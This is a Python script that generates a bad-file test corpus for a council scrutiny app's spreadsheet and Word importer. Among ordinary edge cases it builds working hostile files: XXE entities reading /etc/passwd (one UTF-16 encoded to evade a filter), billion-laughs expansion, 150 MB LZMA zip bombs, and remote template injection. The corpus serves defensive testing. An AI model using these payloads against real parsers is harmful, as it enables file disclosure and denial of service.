"""Regenerate the generated files of the import's bad-file corpus.

    .venv/bin/python tests/import_files/make_files.py

Every file comes out byte for byte the same each time (fixed timestamps in
the workbooks and their zips), so a regenerated corpus shows no change in
git unless the script changed. Two files are not made here, because making
them needs tools the project does not depend on (see README.md):
password_protected.xlsx (msoffcrypto-tool) and old_format.xls (xlwt).
"""

import datetime
import io
import os
import re
import struct
import sys
import zipfile
import zlib
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent.parent))
os.environ.setdefault("DJANGO_SETTINGS_MODULE", "scrutiny.settings")

import django  # noqa: E402

django.setup()

from docx import Document  # noqa: E402
from openpyxl import Workbook  # noqa: E402
from openpyxl.styles import Font, PatternFill  # noqa: E402

from reports.documents.xlsx import write_sheet  # noqa: E402
from reports.progress_update.xlsx import COLUMNS  # noqa: E402
from tests.word_files import council_update  # noqa: E402

FIXED = datetime.datetime(2020, 3, 1, 9, 0, 0)
ZIP_TIME = (2020, 3, 1, 9, 0, 0)

HEADINGS = ["Ref", "Recommendation", "Action", "Lead Officer", "Target Date", "Progress", "Status"]


def fixed_zip(data: bytes, *, extra: dict[str, bytes] | None = None, replace=None, compression=None) -> bytes:
    """`data` (a zip) again, every member dated ZIP_TIME, in the same order;
    `replace(name, content)` may change a member; `extra` adds members."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename == "docProps/core.xml":
                # openpyxl stamps the time of saving, whatever the properties say.
                content = re.sub(rb"(<dcterms:(?:created|modified)[^>]*>)[^<]*", rb"\g<1>2020-03-01T09:00:00Z", content)
            if replace:
                content = replace(info.filename, content)
            member = zipfile.ZipInfo(info.filename, ZIP_TIME)
            member.compress_type = compression or zipfile.ZIP_DEFLATED
            target.writestr(member, content)
        for name, content in (extra or {}).items():
            member = zipfile.ZipInfo(name, ZIP_TIME)
            member.compress_type = compression or zipfile.ZIP_DEFLATED
            target.writestr(member, content)
    return out.getvalue()


def workbook_bytes(workbook: Workbook, **kwargs) -> bytes:
    workbook.properties.created = FIXED
    workbook.properties.modified = FIXED
    buffer = io.BytesIO()
    workbook.save(buffer)
    return fixed_zip(buffer.getvalue(), **kwargs)


def tracker(rows, headings=HEADINGS, title=None) -> Workbook:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Tracker"
    if title:
        sheet.append([title])
        sheet.append([])
    sheet.append(headings)
    for row in rows:
        sheet.append(row)
    return workbook


def sheet_xml(name: str) -> bool:
    return name == "xl/worksheets/sheet1.xml"


def with_shared_strings(data: bytes, rich: str = "") -> bytes:
    """`data` (a one-sheet workbook from openpyxl, which writes each text in
    its cell) with its texts in a shared strings table, as Excel saves them;
    the text `rich` as rich text (a bold run and a phonetic guide)."""
    strings: list[bytes] = []

    def shared(match):
        text = match.group(2)
        if text not in strings:
            strings.append(text)
        return b'<c r="%s"%s t="s"><v>%d</v></c>' % (match.group(1), match.group(3), strings.index(text))

    def replace(name, content):
        if sheet_xml(name):
            return re.sub(
                rb'<c r="([A-Z]+\d+)"((?: s="\d+")?) t="inlineStr"><is><t[^>]*>(.*?)</t></is></c>',
                lambda m: shared(_Reordered(m)),
                content,
                flags=re.DOTALL,
            )
        return content

    first = fixed_zip(data, replace=replace)
    items = []
    for text in strings:
        if rich and text == rich.encode():
            head, tail = text.split(b" ", 1)
            items.append(
                b'<si><r><rPr><b/></rPr><t>%s</t></r><r><t xml:space="preserve"> %s</t></r>'
                b'<rPh sb="0" eb="1"><t>PHONETIC</t></rPh></si>' % (head, tail)
            )
        else:
            items.append(b'<si><t xml:space="preserve">%s</t></si>' % text)
    table = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="%d" uniqueCount="%d">'
        % (len(strings), len(strings))
        + b"".join(items)
        + b"</sst>"
    )

    def register(name, content):
        if name == "[Content_Types].xml":
            return content.replace(
                b"</Types>",
                b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
            )
        if name == "xl/_rels/workbook.xml.rels":
            return content.replace(
                b"</Relationships>",
                b'<Relationship Id="rIdStrings" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                b'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
            )
        return content

    return fixed_zip(first, replace=register, extra={"xl/sharedStrings.xml": table})


class _Reordered:
    """A match of (reference, style, text) seen as (reference, text, style)."""

    def __init__(self, match):
        self.match = match

    def group(self, number):
        return self.match.group({1: 1, 2: 3, 3: 2}[number])


# The files -----------------------------------------------------------------


def not_a_spreadsheet() -> bytes:
    """A one-page PDF, as small as PDFs come."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def picture() -> bytes:
    """A 1×1 PNG."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\xff\xff\xff"))
        + chunk(b"IEND", b"")
    )


def word_document() -> bytes:
    document = Document()
    document.core_properties.created = FIXED
    document.core_properties.modified = FIXED
    document.add_paragraph("Scrutiny Monitoring – Progress Update")
    buffer = io.BytesIO()
    document.save(buffer)
    return fixed_zip(buffer.getvalue())


def macro_enabled() -> bytes:
    workbook = tracker([["1", "That the council acts", "Act", "Tahir Ali", "October 2019", None, None]])

    def macro_content_type(name, content):
        if name == "[Content_Types].xml":
            return content.replace(
                b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
            )
        return content

    # Not a real VBA project: the file is refused before anything reads it.
    return workbook_bytes(workbook, replace=macro_content_type, extra={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 64})


def empty_workbook() -> bytes:
    return workbook_bytes(Workbook())


def no_headings() -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Budget"
    sheet.append(["Cost centre", "Quarter 1", "Quarter 2"])
    sheet.append(["Libraries", 1200, 1350])
    sheet.append(["Parks", 800, 790])
    return workbook_bytes(workbook)


def zip_bomb() -> bytes:
    """A real workbook whose sheet unpacks to 150 MB of spaces: a few
    kilobytes with LZMA, which Python's zipfile (and so openpyxl) reads."""
    workbook = tracker([["1", "That the council acts", "Act", "Tahir Ali", "October 2019", None, None]])

    def padded(name, content):
        if sheet_xml(name):
            return content.replace(b"<sheetData>", b"<sheetData>" + b" " * (150 * 1024 * 1024), 1)
        return content

    return workbook_bytes(workbook, replace=padded, compression=zipfile.ZIP_LZMA)


LAUGHS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b"<!DOCTYPE worksheet [\n"
    b'<!ENTITY lol "lol">\n'
    + b"".join(
        b'<!ENTITY lol%d "%s">\n' % (level, (b"&lol%d;" % (level - 1) if level > 1 else b"&lol;") * 10)
        for level in range(1, 10)
    )
    + b"]>\n"
)


def billion_laughs() -> bytes:
    workbook = tracker([["1", "That the council acts", "Act", "Tahir Ali", "October 2019", "LAUGH", None]])

    def laughing(name, content):
        if sheet_xml(name):
            content = re.sub(rb"^<\?xml[^>]*\?>\s*", b"", content)
            return LAUGHS + content.replace(b"LAUGH", b"&lol9;")
        return content

    return workbook_bytes(workbook, replace=laughing)


def external_entity() -> bytes:
    workbook = tracker([["1", "That the council acts", "Act", "Tahir Ali", "October 2019", "SECRET", None]])

    def entity(name, content):
        if sheet_xml(name):
            content = re.sub(rb"^<\?xml[^>]*\?>\s*", b"", content)
            declaration = (
                b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                b'<!DOCTYPE worksheet [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n'
            )
            return declaration + content.replace(b"SECRET", b"&secret;")
        return content

    return workbook_bytes(workbook, replace=entity)


def utf16_entity() -> bytes:
    """The external entity again, in a sheet saved as UTF-16 big-endian
    without a byte-order mark: read as little-endian, its DOCTYPE would pass
    for no XML at all, while the XML parser reads it as big-endian."""
    workbook = tracker([["1", "That the council acts", "Act", "Tahir Ali", "October 2019", "SECRET", None]])

    def entity(name, content):
        if sheet_xml(name):
            content = re.sub(rb"^<\?xml[^>]*\?>\s*", b"", content)
            declaration = (
                b'<?xml version="1.0" encoding="UTF-16"?>\n'
                b'<!DOCTYPE worksheet [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n'
            )
            return (declaration + content.replace(b"SECRET", b"&secret;")).decode("utf-8").encode("utf-16-be")
        return content

    return workbook_bytes(workbook, replace=entity)


def formulas() -> bytes:
    """Formulas as Excel saves them (with their results), and one saved by a
    program that does not calculate (no result)."""
    workbook = tracker(
        [
            ["1", "That the council acts", "Hold sessions", "Tahir Ali", "=DATE(2019,10,1)", '="Sessions held: "&3', 2],
            ["2", "That the council reports", "Report", "Louise Crisp", "March 2020", None, "=1+0"],
            ["3", "That the council listens", '=UPPER("listen")', "Alex Love", "April 2020", None, None],
        ]
    )
    cached = {"E2": (None, b"43739"), "F2": ("str", b"Sessions held: 3"), "G3": (None, b"1")}

    def with_results(name, content):
        if not sheet_xml(name):
            return content
        for cell, (kind, value) in cached.items():
            # openpyxl writes <c r="E2"><f>DATE(2019,10,1)</f><v></v></c>: give it Excel's result.
            match = re.search(rb'<c r="%s"([^>]*)>(<f>.*?</f>)(<v\s*/>|<v></v>)?' % cell.encode(), content)
            attributes = re.sub(rb'\s*t="[^"]*"', b"", match.group(1)) + (b' t="str"' if kind == "str" else b"")
            cached_cell = b'<c r="%s"%s>%s<v>%s</v>' % (cell.encode(), attributes, match.group(2), value)
            content = content[: match.start()] + cached_cell + content[match.end() :]
        return content

    return workbook_bytes(workbook, replace=with_results)


def merged_cells() -> bytes:
    workbook = tracker(
        [
            [
                "1a",
                "That the Hate Crime Group raises awareness",
                "Plan for disabled people",
                "Satnam Singh",
                "April 2019",
            ],
            ["1b", None, "Sessions for frontline staff", "All Stockton hate crime group members", "August 2019"],
            ["1c", None, "Youth Direction actions", "Tahir Ali / Louise Crisp", "August 2019"],
            ["2", "That the council reports yearly", "Annual report", "Marc Stephenson", "March 2020"],
        ],
        headings=HEADINGS[:5],
    )
    workbook.active.merge_cells("B2:B4")
    return workbook_bytes(workbook)


def hidden_sheet() -> bytes:
    workbook = Workbook()
    old = workbook.active
    old.title = "Old"
    old.append(HEADINGS)
    old.append(["9", "An old recommendation", "Old action", "Nobody Now", "May 2015", None, None])
    old.sheet_state = "hidden"
    sheet = workbook.create_sheet("Tracker")
    sheet.append(HEADINGS)
    sheet.append(["1", "That the council acts", "Act", "Tahir Ali", "October 2019", None, None])
    return workbook_bytes(workbook)


def blank_rows() -> bytes:
    """A two-action tracker, then 30,000 formatted but blank rows (more than
    the row limit) and formatted blank cells out to column ZZ."""
    workbook = tracker(
        [
            ["1", "That the council acts", "Act", "Tahir Ali", "October 2019", None, None],
            ["2", "That the council reports", "Report", "Louise Crisp", "March 2020", None, None],
        ]
    )
    sheet = workbook.active
    fill = PatternFill("solid", fgColor="FFFF00")
    for row in range(4, 30_004):
        sheet.cell(row=row, column=1).fill = fill
        sheet.row_dimensions[row].height = 15
    for column in range(8, 703):
        sheet.cell(row=1, column=column).font = Font(bold=True)
    return workbook_bytes(workbook)


def dates() -> bytes:
    workbook = tracker(
        [
            ["1", "That the council acts", "A date cell", "Tahir Ali", datetime.datetime(2019, 10, 15)],
            ["2", "That the council reports", "A serial number", "Tahir Ali", 43739],
            ["3", "That the council listens", "Words", "Tahir Ali", "October 2019"],
            ["4", "That the council learns", "Numbers", "Tahir Ali", "10/2019"],
            ["5", "That the council trains", "ISO", "Tahir Ali", "2019-10"],
            ["6", "That the council meets", "The plan's words", "Tahir Ali", "Reviewed throughout the year 2019"],
            ["7", "That the council writes", "Two-digit year", "Tahir Ali", "Sept 19"],
            ["8", "That the council reads", "Impossible", "Tahir Ali", "31/02/2020"],
            ["9", "That the council waits", "No date", "Tahir Ali", None],
        ],
        headings=HEADINGS[:5],
    )
    return workbook_bytes(workbook)


def duplicate_references() -> bytes:
    workbook = tracker(
        [
            ["1a", "That the council acts", "First", "Tahir Ali", "October 2019"],
            ["1b", "That the council acts", "Second", "Tahir Ali", "October 2019"],
            ["1a", "That the council acts", "Third, wrongly numbered", "Tahir Ali", "October 2019"],
        ],
        headings=HEADINGS[:5],
    )
    return workbook_bytes(workbook)


def windows_1252() -> bytes:
    text = (
        "Ref,Recommendation,Action,Lead Officer,Target Date\r\n"
        '1,"That the council spends £5,000 – no more",Budget set,Tahir Ali,October 2019\r\n'
    )
    return text.encode("cp1252")


def utf8_bom() -> bytes:
    text = (
        "Ref;Recommendation;Action;Lead Officer;Target Date;Evidence of Progress (March 2020);Status\r\n"
        "1;That the council acts – with Zoë’s team;Act;Zoë Brontë;October 2019;Done;Fully Achieved\r\n"
    )
    return b"\xef\xbb\xbf" + text.encode("utf-8")


def workbook_renamed_csv() -> bytes:
    return workbook_bytes(tracker([["1", "That the council acts", "Act", "Tahir Ali", "October 2019", None, None]]))


def opendocument() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        member = zipfile.ZipInfo("mimetype", ZIP_TIME)
        archive.writestr(member, b"application/vnd.oasis.opendocument.spreadsheet")
        member = zipfile.ZipInfo("content.xml", ZIP_TIME)
        archive.writestr(member, b'<?xml version="1.0"?><office:document-content/>')
    return out.getvalue()


def good_tracker() -> bytes:
    """A council tracker as clerks keep them: a title above the headings,
    the Recommendation merged over its actions' rows, the round's month in
    a heading, names separated by slashes and line breaks, a role, the
    plan's own words for a date, paragraphs and bullets."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Hate Crime"
    sheet.append(["Hate Crime Scrutiny Review – Action Plan Tracker"])
    sheet.append(["Link Officer: Marc Stephenson"])
    sheet.append([])
    sheet.append(
        [
            "Ref",
            "Recommendation",
            "Agreed Action",
            "Responsibility",
            "Target Date",
            "Success measure",
            "Evidence of Progress (March 2020)",
            "Assessment of Progress",
            "Evidence of Impact",
        ]
    )
    rows = [
        [
            "1",
            "That the Stockton Hate Crime Group incorporates the actions into its plan",
            "Propose the new recommendations at the next meeting",
            "Satnam Singh",
            datetime.datetime(2019, 3, 1),
            "The action plan 2019-2020 includes them",
            "The plan includes the key recommendations.\n\nThey are now part of the groups' work.",
            "1 (Fully Achieved)",
            None,
        ],
        [
            "1a",
            None,
            "Awareness sessions for frontline staff",
            "All Stockton hate crime group members",
            "August 2019",
            "A range of sessions held",
            "Sessions held:\n• Police\n• Housing",
            "On-Track",
            "More reports from staff",
        ],
        [
            "1b",
            None,
            "Develop an online reporting form",
            "Tahir Ali / Louise Crisp",
            "Reviewed throughout the year 2019",
            "The form is live",
            None,
            None,
            None,
        ],
        [
            "2",
            "That the council reports hate crime figures yearly",
            "Publish a yearly report",
            "Vanessa Housley\nDale Metcalfe",
            "October 2019",
            "The report is published",
            "Delayed by the election.",
            "Slipped",
            None,
        ],
    ]
    for row in rows:
        sheet.append(row)
    sheet.merge_cells("B5:B7")
    sheet["E5"].number_format = "mmmm yyyy"
    return with_shared_strings(workbook_bytes(workbook), rich="Publish a yearly report")


def product_export() -> bytes:
    """The product's own Excel export (reports/progress_update/xlsx.py), two rounds."""
    march, september = datetime.date(2020, 3, 1), datetime.date(2020, 9, 1)
    target = datetime.date(2019, 8, 1)
    rows = [
        ("Hate Crime", march, 1, "", "", "1", "Satnam Singh", datetime.date(2019, 3, 1), "Propose them",
         "Plan includes them", "Included.", 1, "Fully Achieved", "", ""),
        ("Hate Crime", march, 1, "a", "Frontline staff", "1 a) Frontline staff", "Tahir Ali, Louise Crisp", target,
         "Sessions", "Sessions held", "Two sessions.\n• Police", 2, "On-Track", "", ""),
        ("Hate Crime", september, 1, "a", "Frontline staff", "1 a) Frontline staff", "Louise Crisp", target,
         "Sessions", "Sessions held", "All done.", 1, "Fully Achieved", "", "Staff report more."),
        ("Hate Crime", march, 1, "b", "", "1 b)", "Neil Mitchell", "Reviewed throughout the year 2019",
         "Online form", "Form live", "No update received", None, "", "", ""),
        ("Hate Crime", september, 1, "b", "", "1 b)", "Errol Parks", "Reviewed throughout the year 2019",
         "Online form", "Form live", "Form built.", 3, "Slipped", "Waiting for IT.", ""),
    ]  # fmt: skip
    return fixed_zip(write_sheet("Progress update", COLUMNS, rows))


# Word progress updates -------------------------------------------------------


def progress_update_docx() -> bytes:
    """A council's progress update shaped like seed 001 (tests/word_files.py)."""
    return fixed_zip(council_update())


def word_with(replace=None, extra=None, compression=None) -> bytes:
    return fixed_zip(council_update(), replace=replace, extra=extra, compression=compression)


def external_template() -> bytes:
    """A document whose settings attach a template on another web site:
    Word fetches it on opening (remote template injection)."""

    def attached(name, content):
        if name == "word/settings.xml":
            return content.replace(b"</w:settings>", b'<w:attachedTemplate r:id="rIdTemplate"/></w:settings>').replace(
                b"<w:settings ",
                b'<w:settings xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ',
                1,
            )
        return content

    relationships = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rIdTemplate" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://templates.example.com/progress.dotm" TargetMode="External"/>'
        b"</Relationships>"
    )
    return word_with(replace=attached, extra={"word/_rels/settings.xml.rels": relationships})


def macro_enabled_docm() -> bytes:
    def macro_content_type(name, content):
        if name == "[Content_Types].xml":
            return content.replace(
                b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                b"application/vnd.ms-word.document.macroEnabled.main+xml",
            )
        return content

    # Not a real VBA project: the file is refused before anything reads it.
    return word_with(replace=macro_content_type, extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 64})


def zip_bomb_docx() -> bytes:
    def padded(name, content):
        if name == "word/document.xml":
            return content.replace(b"<w:body>", b"<w:body>" + b" " * (150 * 1024 * 1024), 1)
        return content

    return word_with(replace=padded, compression=zipfile.ZIP_LZMA)


def billion_laughs_docx() -> bytes:
    def laughing(name, content):
        if name == "word/document.xml":
            content = re.sub(rb"^<\?xml[^>]*\?>\s*", b"", content)
            return LAUGHS.replace(b"DOCTYPE worksheet", b"DOCTYPE document") + content.replace(
                b"Priya Shah", b"&lol9;", 1
            )
        return content

    return word_with(replace=laughing)


GENERATED = {
    "not_a_spreadsheet.xlsx": not_a_spreadsheet,
    "picture.xlsx": picture,
    "word_document.xlsx": word_document,
    "macro_enabled.xlsm": macro_enabled,
    "empty.csv": lambda: b"",
    "empty_workbook.xlsx": empty_workbook,
    "no_headings.xlsx": no_headings,
    "zip_bomb.xlsx": zip_bomb,
    "billion_laughs.xlsx": billion_laughs,
    "external_entity.xlsx": external_entity,
    "utf16_entity.xlsx": utf16_entity,
    "formulas.xlsx": formulas,
    "merged_cells.xlsx": merged_cells,
    "hidden_sheet.xlsx": hidden_sheet,
    "blank_rows.xlsx": blank_rows,
    "dates.xlsx": dates,
    "duplicate_references.xlsx": duplicate_references,
    "windows_1252.csv": windows_1252,
    "utf8_bom.csv": utf8_bom,
    "workbook_renamed.csv": workbook_renamed_csv,
    "opendocument.ods": opendocument,
    "good_tracker.xlsx": good_tracker,
    "product_export.xlsx": product_export,
    "progress_update.docx": progress_update_docx,
    "external_template.docx": external_template,
    "macro_enabled.docm": macro_enabled_docm,
    "zip_bomb.docx": zip_bomb_docx,
    "billion_laughs.docx": billion_laughs_docx,
}


def main():
    for name, make in GENERATED.items():
        data = make()
        (HERE / name).write_bytes(data)
        print(f"{name}: {len(data):,} bytes")


if __name__ == "__main__":
    main()
